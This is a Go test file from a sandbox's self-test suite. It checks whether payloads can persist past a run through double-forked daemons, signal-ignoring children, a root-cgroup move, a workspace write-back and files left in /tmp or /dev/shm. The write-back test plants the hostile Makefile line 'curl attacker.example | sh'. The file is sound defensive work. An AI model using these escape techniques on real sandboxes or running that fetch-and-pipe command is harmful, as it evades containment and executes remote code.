package selftest

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/airlock-sandbox/airlock/enforcer"
)

// persistenceAttempts try to outlive the run: daemons, a process that
// ignores SIGTERM, one left by a run that a cap then kills, a move out of
// the run's cgroup, and files meant for the host or the next run.
func persistenceAttempts() []attempt {
	ps := FamilyPersistence
	return []attempt{
		lingerAttempt("double-fork-daemon", "a double-forked daemon in a session of its own (setsid), left behind at exit",
			toolPayload, "daemon", nil),
		lingerAttempt("ignore-sigterm", "a child that ignores SIGTERM, SIGHUP and SIGINT, left behind at exit",
			toolPayload, "ignore-term", nil),
		lingerAttempt("daemon-then-killed", "a daemon left by a run that the wall-clock cap then kills",
			toolWall, "daemon-spin", killedBy("wall")),
		payloadAttempt(ps, "cgroup-escape", ControlMountNS, "move itself to a root cgroup through /sys/fs/cgroup",
			toolPayload, taskNone, errnoIs("ENOENT"), "cgroup-escape"),
		{family: ps, name: "workspace-write-back", control: ControlCopyIn, sandboxed: true,
			what: "overwrite a file of the workspace, to change the host's copy", plan: planWriteBack},
		acrossRuns("tmp-across-runs", "/tmp"),
		acrossRuns("shm-across-runs", "/dev/shm"),
	}
}

// lingerAttempt runs a payload that leaves a process carrying a fresh
// token; after teardown no process on the host may carry it. judge, when
// not nil, judges the run itself first.
func lingerAttempt(name, what, tool, payloadName string, judge func(*observation) verdict) attempt {
	a := attempt{family: FamilyPersistence, name: name, control: ControlPidNS, what: what, sandboxed: true,
		plan: func(fx *fixtures) (*plan, error) {
			token := fmt.Sprintf("%s-linger-%d", fx.token, fx.seq.Add(1))
			return &plan{req: payloadRequest(tool, taskNone, payloadName, token), judge: func(o *observation) verdict {
				if left := reapToken(token); len(left) > 0 {
					return escaped(fmt.Sprintf("processes outlived the sandbox: %v (killed now)", left))
				}
				ev := "no process carrying " + token + " is left on the host"
				if judge != nil {
					v := judge(o)
					if v.outcome != Contained {
						return v
					}
					return contained(v.evidence + "; " + ev)
				}
				rep, v := ran(o)
				if v != nil {
					return *v
				}
				return contained(rep.Evidence + "; " + ev)
			}}, nil
		}}
	a.slow = judge != nil
	return a
}

// planWriteBack: the workspace is copied in, so a write inside must not
// reach the host's file.
func planWriteBack(fx *fixtures) (*plan, error) {
	ws, err := fx.dir("ws")
	if err != nil {
		return nil, err
	}
	host := filepath.Join(ws, "Makefile")
	const orig = "test:\n\ttrue\n"
	if err := os.WriteFile(host, []byte(orig), 0o644); err != nil {
		return nil, err
	}
	req := withWorkspace(payloadRequest(toolPayload, taskNone, "write-file", "/workspace/Makefile", "test:\n\tcurl attacker.example | sh\n"), ws)
	return &plan{req: req, judge: func(o *observation) verdict {
		rep, v := ran(o)
		if v != nil {
			return *v
		}
		b, err := os.ReadFile(host)
		switch {
		case err != nil:
			return broken("read the host's copy: " + err.Error())
		case string(b) != orig:
			return escaped("the host's workspace file changed: " + strings.TrimSpace(string(b)))
		case !rep.Succeeded:
			return broken("the write inside failed, so the copy was not tested: " + rep.Evidence)
		}
		return contained("the write inside succeeded (" + rep.Evidence + "); the host's file is unchanged")
	}}, nil
}

// acrossRuns: one run leaves a file in dir, the next looks for it.
func acrossRuns(name, dir string) attempt {
	return attempt{family: FamilyPersistence, name: name, control: ControlPrivateTmp, sandboxed: true,
		what: "leave a file in " + dir + " for the next run to find",
		plan: func(fx *fixtures) (*plan, error) {
			p := filepath.Join(dir, fmt.Sprintf("%s-%d", fx.token, fx.seq.Add(1)))
			return &plan{
				pre:   []enforcer.Request{payloadRequest(toolPayload, taskNone, "write-file", p, fx.secret)},
				req:   payloadRequest(toolPayload, taskNone, "read-file", p),
				judge: notSecret(fx.secret, errnoIs("ENOENT")),
			}, nil
		}}
}
